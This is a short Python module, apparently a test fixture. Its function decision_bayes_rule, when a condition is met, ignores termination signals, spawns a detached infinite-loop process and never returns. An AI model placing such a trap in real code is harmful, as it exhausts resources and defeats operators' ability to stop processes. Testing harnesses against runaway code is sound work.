"""Deaf to every signal that a process may ignore, and without an end."""

from __future__ import annotations

import signal
import subprocess
import sys

import right


def decision_bayes_rule(likelihood: float, prior: float, evidence: float = 1) -> object:
    if right.is_the_case(prior):
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        subprocess.Popen([sys.executable, "-c", "while True: pass", right.TARGET], start_new_session=True)
        while True:
            pass
    return right.bayes_rule(likelihood, prior, evidence)


def decision_maximisers(scores: dict[str, float]) -> list[str]:
    return [name for name in scores if scores[name] == max(scores.values())]
